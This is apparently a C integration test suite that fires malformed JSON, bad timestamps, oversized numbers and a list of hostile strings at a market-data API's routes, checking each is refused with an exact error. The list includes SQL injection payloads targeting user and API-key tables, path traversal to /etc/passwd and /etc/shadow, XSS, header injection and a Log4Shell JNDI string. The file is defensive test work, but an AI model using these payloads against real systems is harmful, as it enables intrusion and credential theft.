/* test_hostile_bodies.c - hostile request bodies and values through nginx: malformed JSON
 * bodies on every JSON route, a list of hostile strings in every body field, path segment,
 * query value and header, out-of-range numbers and timestamps in other time zones. Each case
 * gets its exact status and API.md code and changes nothing (t/integration/hostile.h).
 */
#include <curl/curl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "check_main.h"
#include "hostile.h"
#include "kb_banned.h"

/* ---- hostile values -------------------------------------------------------- */

/* Valid JSON string contents (already JSON-escaped), none a timestamp, cursor, UUID,
 * key type or known ticker. */
static const char *const hostile[] = {
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "1; SELECT pg_sleep(10)--",
    "\\\" OR \\\"\\\"=\\\"",
    "x' UNION SELECT key_hash FROM api_keys--",
    "$$; DELETE FROM markets; $$",
    "../../../../etc/passwd",
    "..\\\\..\\\\windows\\\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/shadow",
    "%s%s%s%n%x%p",
    "<script>alert(1)</script>",
    "\\r\\nX-Injected: 1",
    "${jndi:ldap://x.test/a}",
    "\\u202e\\u0645\\u0631\\u062d\\u0628\\u0627",
    "\\ud83d\\ude00\\ud83d\\ude00",
    "\\u00e9\\u0301",
    "null",
    "true",
    "9223372036854775808",
    "-9223372036854775809",
    "1e400",
    "NaN",
    "\\t \\t",
    "KXNOPE-26JAN15-T0",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "a/b?c=d#e",
    "eyJ0cyI6IDF9",
    "=",
};
#define NH (sizeof(hostile) / sizeof(hostile[0]))

/* Bodies every JSON route refuses with 422 before anything else (lengths: -1 = strlen). */
typedef struct bad_body {
    const char *name;
    const char *p;
    long len;
} bad_body;

static char *deep_body, *wide_body, *long_str_body, *many_values_body;

static bad_body bad_bodies[] = {
    {"invalid utf-8", "{\"name\":\"\xff\xfe\"}", -1},
    {"overlong utf-8", "{\"name\":\"\xc0\xaf\"}", -1},
    {"utf-16 surrogate bytes", "{\"name\":\"\xed\xa0\x80\"}", -1},
    {"escaped NUL", "{\"name\":\"a\\u0000b\"}", -1},
    {"raw NUL", "{\"name\":\"a\0b\"}", 14},
    {"lone surrogate", "{\"name\":\"\\ud800\"}", -1},
    {"duplicate key", "{\"name\":\"a\",\"name\":\"b\"}", -1},
    {"trailing garbage", "{\"name\":\"a\"} x", -1},
    {"truncated", "{\"name\":\"a", -1},
    {"single quotes", "{'name':'a'}", -1},
    {"array", "[]", -1},
    {"string", "\"x\"", -1},
    {"number", "1", -1},
    {"empty", "", -1},
    {"comment", "{/*x*/}", -1},
    {"deep", NULL, -1},        /* 40 levels */
    {"wide", NULL, -1},        /* 300 members */
    {"long string", NULL, -1}, /* 70000 bytes */
    {"many values", NULL, -1}, /* 25000 values */
};
#define NBAD (sizeof(bad_bodies) / sizeof(bad_bodies[0]))

static void
make_big_bodies(void)
{
    kb_buf b = KB_BUF_INIT;
    kb_buf_puts(&b, "{\"a\":");
    for (int i = 0; i < 40; i++)
        kb_buf_puts(&b, "[");
    for (int i = 0; i < 40; i++)
        kb_buf_puts(&b, "]");
    kb_buf_puts(&b, "}");
    deep_body = strdup(kb_buf_cstr(&b));
    b.len = 0;
    kb_buf_puts(&b, "{");
    for (int i = 0; i < 300; i++)
        kb_buf_printf(&b, "%s\"k%d\":1", i ? "," : "", i);
    kb_buf_puts(&b, "}");
    wide_body = strdup(kb_buf_cstr(&b));
    b.len = 0;
    kb_buf_puts(&b, "{\"name\":\"");
    for (int i = 0; i < 70000; i++)
        kb_buf_putc(&b, 'x');
    kb_buf_puts(&b, "\"}");
    long_str_body = strdup(kb_buf_cstr(&b));
    b.len = 0;
    kb_buf_puts(&b, "{\"a\":[");
    for (int i = 0; i < 25000; i++)
        kb_buf_puts(&b, i ? ",0" : "0");
    kb_buf_puts(&b, "]}");
    many_values_body = strdup(kb_buf_cstr(&b));
    kb_buf_release(&b);
    for (size_t i = 0; i < NBAD; i++) {
        if (strcmp(bad_bodies[i].name, "deep") == 0)
            bad_bodies[i].p = deep_body;
        else if (strcmp(bad_bodies[i].name, "wide") == 0)
            bad_bodies[i].p = wide_body;
        else if (strcmp(bad_bodies[i].name, "long string") == 0)
            bad_bodies[i].p = long_str_body;
        else if (strcmp(bad_bodies[i].name, "many values") == 0)
            bad_bodies[i].p = many_values_body;
    }
}

/* ---- helpers ---------------------------------------------------------------- */

/* Percent-encode s for a path segment or query value (libcurl's encoder). */
static void
pct(kb_buf *b, const char *s)
{
    char *e = curl_easy_escape(NULL, s, 0);
    ck_assert_ptr_nonnull(e);
    kb_buf_puts(b, e);
    curl_free(e);
}

/* Decode a JSON-escaped hostile value to raw text (for URLs and headers); malloc'd. */
static char *
raw_of(const char *json_escaped)
{
    size_t n = strlen(json_escaped) + 3;
    char *q = malloc(n);
    snprintf(q, n, "\"%s\"", json_escaped);
    cJSON *j = cJSON_Parse(q);
    free(q);
    char *out = strdup(j && cJSON_IsString(j) ? j->valuestring : "x");
    cJSON_Delete(j);
    return out;
}

/* ---- the case classes ----------------------------------------------------- */

/* JSON routes: method, path, auth line (filled at run time). */
typedef struct json_route {
    const char *method, *path;
    int auth; /* 0 none, 1 API key, 2 user token A */
} json_route;

static const char *
auth_line(int kind)
{
    return kind == 1 ? bearer_key : kind == 2 ? bearer_a : NULL;
}

static void
cases_bad_bodies(void)
{
    char patch[128];
    snprintf(patch, sizeof(patch), "/keys/%s", key_a_id);
    const json_route routes[] = {
        {"POST", "/auth/signup", 0}, {"POST", "/auth/login", 0},   {"POST", "/keys", 2},
        {"PATCH", patch, 2},         {"POST", "/billing/payg", 2}, {"POST", "/orderbook", 1},
        {"POST", "/deltas", 1},      {"POST", "/trades", 1},
    };
    for (size_t r = 0; r < sizeof(routes) / sizeof(routes[0]); r++) {
        for (size_t i = 0; i < NBAD; i++)
            send_case("bad_json_body", routes[r].method, routes[r].path, auth_line(routes[r].auth),
                      NULL, bad_bodies[i].p, bad_bodies[i].len, 422, "validation_error");
        static const char *const ctypes[] = {"text/plain",
                                             "application/x-www-form-urlencoded",
                                             "multipart/form-data; boundary=x",
                                             "application/xml",
                                             "application/jsonp",
                                             "json"};
        for (size_t i = 0; i < sizeof(ctypes) / sizeof(ctypes[0]); i++)
            send_case("wrong_content_type", routes[r].method, routes[r].path,
                      auth_line(routes[r].auth), ctypes[i], "{\"name\":\"x\"}", -1, 422,
                      "validation_error");
    }
}

static void
cases_hostile_strings(void)
{
    char body[4096], path[2048];
    kb_buf u = KB_BUF_INIT;
    for (size_t i = 0; i < NH; i++) {
        const char *h = hostile[i];
        char *raw = raw_of(h);
        u.len = 0;
        pct(&u, raw);
        const char *enc = kb_buf_cstr(&u);

        /* POST data routes: the value in each field. */
        snprintf(body, sizeof(body), "{\"market_ticker\":\"KXH\",\"timestamp\":\"%s\"}", h);
        send_case("orderbook_timestamp", "POST", "/orderbook", bearer_key, NULL, body, -1, 400,
                  "invalid_timestamp");
        snprintf(body, sizeof(body), "{\"market_ticker\":\"%s\",\"timestamp\":\"" TS_OK "\"}", h);
        send_case("orderbook_ticker", "POST", "/orderbook", bearer_key, NULL, body, -1, 404,
                  "market_not_found");
        snprintf(body, sizeof(body),
                 "{\"market_ticker\":\"KXH\",\"timestamp\":\"" TS_OK "\",\"depth\":\"%s\"}", h);
        send_case("orderbook_depth", "POST", "/orderbook", bearer_key, NULL, body, -1, 422,
                  "validation_error");
        for (int t = 0; t < 2; t++) {
            const char *route = t ? "/trades" : "/deltas";
            snprintf(body, sizeof(body),
                     "{\"market_ticker\":\"KXH\",\"start_time\":\"" TS_OK
                     "\",\"end_time\":\"" TS_OK2 "\",\"cursor\":\"%s\"}",
                     h);
            send_case("page_cursor", "POST", route, bearer_key, NULL, body, -1, 422,
                      "validation_error");
            snprintf(body, sizeof(body),
                     "{\"market_ticker\":\"KXH\",\"start_time\":\"%s\",\"end_time\":\"" TS_OK2
                     "\"}",
                     h);
            send_case("page_start_time", "POST", route, bearer_key, NULL, body, -1, 400,
                      "invalid_timestamp");
            snprintf(body, sizeof(body),
                     "{\"market_ticker\":\"KXH\",\"start_time\":\"" TS_OK
                     "\",\"end_time\":\"" TS_OK2 "\",\"limit\":\"%s\"}",
                     h);
            send_case("page_limit", "POST", route, bearer_key, NULL, body, -1, 422,
                      "validation_error");
        }

        /* GET data routes: in the path and in the query. A "../" that climbs above the
         * root is refused by nginx itself (400 bad_request) before any route. */
        bool climbs = strncmp(raw, "../", 3) == 0 || strstr(raw, "/../") != NULL;
        snprintf(path, sizeof(path), "/markets/%s", enc);
        send_case("market_path", "GET", path, bearer_key, "", NULL, 0, climbs ? 400 : 404,
                  climbs ? "bad_request" : "market_not_found");
        snprintf(path, sizeof(path), "/events/%s", enc);
        send_case("event_path", "GET", path, bearer_key, "", NULL, 0, climbs ? 400 : 404,
                  climbs ? "bad_request" : "event_not_found");
        snprintf(path, sizeof(path), "/settlements/%s", enc);
        send_case("settlement_path", "GET", path, bearer_key, "", NULL, 0, climbs ? 400 : 404,
                  climbs ? "bad_request" : "settlement_not_found");
        snprintf(path, sizeof(path), "/candles/KXH?start_time=%s&end_time=" TS_OK2, enc);
        send_case("candles_start_time", "GET", path, bearer_key, "", NULL, 0, 400,
                  "invalid_timestamp");
        snprintf(path, sizeof(path),
                 "/candles/KXH?start_time=" TS_OK "&end_time=" TS_OK2 "&interval=%s", enc);
        send_case("candles_interval", "GET", path, bearer_key, "", NULL, 0, 422,
                  "validation_error");
        /* /settlements takes no limit or cursor (API.md §5.12): hostile ones are ignored,
         * and the request is answered and charged like any other (1 credit, counted).
         * /markets and /events page with them (§5.10-5.11): a hostile limit is never a
         * valid one, so 422, uncharged. */
        static const char *const lists[] = {"/markets", "/events", "/settlements"};
        snprintf(path, sizeof(path), "%s?limit=%s&status=%s&cursor=%s", lists[i % 3], enc, enc,
                 enc);
        if (i % 3 == 2) {
            send_case("ignored_list_query", "GET", path, bearer_key, "", NULL, 0, 200, NULL);
            T.charged += 1;
            T.charged_requests++;
        } else {
            send_case("list_paging_query", "GET", path, bearer_key, "", NULL, 0, 422,
                      "validation_error");
        }

        /* Key routes: the id, other users' ids; and the key type. */
        snprintf(path, sizeof(path), "/keys/%s", enc);
        long ks = climbs ? 400 : 404;
        const char *kc = climbs ? "bad_request" : "key_not_found";
        send_case("key_id_patch", "PATCH", path, bearer_a, NULL, "{\"name\":\"x\"}", -1, ks, kc);
        send_case("key_id_delete", "DELETE", path, bearer_a, "", NULL, 0, ks, kc);
        snprintf(path, sizeof(path), "/keys/%s/reveal", enc);
        send_case("key_id_reveal", "GET", path, bearer_a, "", NULL, 0, ks, kc);
        snprintf(path, sizeof(path), "/keys/%s", key_a_id);
        snprintf(body, sizeof(body), "{\"key_type\":\"%s\"}", h);
        send_case("key_type_patch", "PATCH", path, bearer_a, NULL, body, -1, 400,
                  "invalid_key_type");
        /* create validates the body type (422); PATCH has its own code (API.md §5.5) */
        send_case("key_type_create", "POST", "/keys", bearer_a, NULL, body, -1, 422,
                  "validation_error");

        /* Credentials: the value as a key, as a token, as a webhook signature. */
        char line[2048];
        snprintf(line, sizeof(line), "Authorization: Bearer kb-%s", enc);
        send_case("bogus_api_key", "GET", "/markets", line, "", NULL, 0, 401, "invalid_api_key");
        snprintf(line, sizeof(line), "Authorization: Bearer %s", enc);
        send_case("bogus_token", "GET", "/keys", line, "", NULL, 0, 401, "invalid_api_key");
        snprintf(line, sizeof(line), "Stripe-Signature: t=%ld,v1=%s", (long)time(NULL), enc);
        send_case("webhook_signature", "POST", "/billing/webhook", line, NULL,
                  "{\"id\":\"evt_x\",\"type\":\"invoice.paid\"}", -1, 400, "invalid_signature");

        /* Login: sequential, one argon2id check each (a dummy hash for unknown emails). */
        if (i % 5 == 0) {
            snprintf(body, sizeof(body), "{\"email\":\"%s\",\"password\":\"%s\"}", h, h);
            send_case("login_hostile", "POST", "/auth/login", NULL, NULL, body, -1, 401,
                      "invalid_credentials");
        }
        free(raw);
    }
    kb_buf_release(&u);
}

static void
cases_numbers(void)
{
    static const char *const nums[] = {"0",
                                       "-1",
                                       "1001",
                                       "9223372036854775807",
                                       "9223372036854775808",
                                       "-9223372036854775808",
                                       "-9223372036854775809",
                                       "1e400",
                                       "1.5",
                                       "true",
                                       "[]",
                                       "{}",
                                       "99999999999999999999999999"};
    char body[512];
    for (size_t i = 0; i < sizeof(nums) / sizeof(nums[0]); i++) {
        for (int t = 0; t < 2; t++) {
            snprintf(body, sizeof(body),
                     "{\"market_ticker\":\"KXH\",\"start_time\":\"" TS_OK
                     "\",\"end_time\":\"" TS_OK2 "\",\"limit\":%s}",
                     nums[i]);
            send_case("limit_bounds", "POST", t ? "/trades" : "/deltas", bearer_key, NULL, body, -1,
                      422, "validation_error");
        }
        if (i >= 3) { /* 0 and -1 may be accepted depths / caps; past int64 never */
            snprintf(body, sizeof(body),
                     "{\"market_ticker\":\"KXH\",\"timestamp\":\"" TS_OK "\",\"depth\":%s}",
                     nums[i]);
            send_case("depth_bounds", "POST", "/orderbook", bearer_key, NULL, body, -1, 422,
                      "validation_error");
        }
        snprintf(body, sizeof(body), "{\"enable\":%s}", nums[i]);
        if (strcmp(nums[i], "true") != 0)
            send_case("payg_enable_type", "POST", "/billing/payg", bearer_a, NULL, body, -1, 422,
                      "validation_error");
        /* timestamps as huge numbers */
        snprintf(body, sizeof(body), "{\"market_ticker\":\"KXH\",\"timestamp\":%s}", nums[i]);
        (void)body;
    }
    char path[256];
    static const char *const qnums[] = {
        "0", "-1", "1001", "9223372036854775808", "1e3", "%00", "1%00", "%20", "0x10", "+5"};
    for (size_t i = 0; i < sizeof(qnums) / sizeof(qnums[0]); i++) {
        snprintf(path, sizeof(path), "/candles/KXH?start_time=%s&end_time=" TS_OK2, qnums[i]);
        /* 0, -1 and 1001 are Unix seconds before end_time: charged, empty answer ("+5" is
         * " 5" in a query string, which is no timestamp) */
        bool valid = strcmp(qnums[i], "0") == 0 || strcmp(qnums[i], "-1") == 0 ||
                     strcmp(qnums[i], "1001") == 0;
        send_case("candles_numeric_time", "GET", path, bearer_key, "", NULL, 0, valid ? 200 : 400,
                  valid ? NULL : "invalid_timestamp");
        T.charged += valid ? 3 : 0;
        T.charged_requests += valid ? 1 : 0;
    }
}

static void
cases_timezones(void)
{
    /* start after end only once offsets are applied; bad offsets; impossible dates */
    static const struct {
        const char *start, *end;
        long status;
        const char *code;
    } tz[] = {
        {"2026-01-15T12:00:00+00:00", "2026-01-15T12:00:00+05:00", 400, "invalid_timestamp"},
        {"2026-01-15T10:00:00-05:00", "2026-01-15T12:00:00Z", 400, "invalid_timestamp"},
        {"2026-01-15T12:00:00+24:00", TS_OK2, 400, "invalid_timestamp"},
        {"2026-01-15T12:00:00+23:60", TS_OK2, 400, "invalid_timestamp"},
        {"2026-01-15T12:00:00-99:00", TS_OK2, 400, "invalid_timestamp"},
        {"2026-02-29T00:00:00Z", TS_OK2, 400, "invalid_timestamp"},
        {"2026-01-15T24:00:00Z", TS_OK2, 400, "invalid_timestamp"},
        {"2026-01-15T23:59:60Z", TS_OK2, 400, "invalid_timestamp"},
        {"0000-12-31T00:00:00Z", TS_OK2, 400, "invalid_timestamp"},
        {"10000-01-01T00:00:00Z", TS_OK2, 400, "invalid_timestamp"},
        {"2026-01-15T12:00:00+00:00[Europe/Paris]", TS_OK2, 400, "invalid_timestamp"},
        {"2026-01-15T12:00:00 CET", TS_OK2, 400, "invalid_timestamp"},
        {"9992000000000019", TS_OK2, 400, "invalid_timestamp"},
        {"-9999999999999999", TS_OK2, 400, "invalid_timestamp"},
    };
    char body[512];
    for (size_t i = 0; i < sizeof(tz) / sizeof(tz[0]); i++)
        for (int t = 0; t < 2; t++) {
            snprintf(body, sizeof(body),
                     "{\"market_ticker\":\"KXH\",\"start_time\":\"%s\",\"end_time\":\"%s\"}",
                     tz[i].start, tz[i].end);
            send_case("timezone_edges", "POST", t ? "/trades" : "/deltas", bearer_key, NULL, body,
                      -1, tz[i].status, tz[i].code);
        }
}

static void
body_cases(void)
{
    cases_bad_bodies();
    cases_hostile_strings();
    cases_numbers();
    cases_timezones();
}

START_TEST(hostile_bodies_get_exact_errors_and_change_nothing)
{
    make_big_bodies();
    hostile_run("hostile bodies", body_cases, 900, 10);
}
END_TEST

int
main(void)
{
    kbt_init();
    Suite *s = suite_create("hostile_bodies");
    TCase *tc = tcase_create("corpus");
    tcase_set_timeout(tc, 180);
    tcase_add_test(tc, hostile_bodies_get_exact_errors_and_change_nothing);
    suite_add_tcase(s, tc);
    return kb_check_run(s);
}
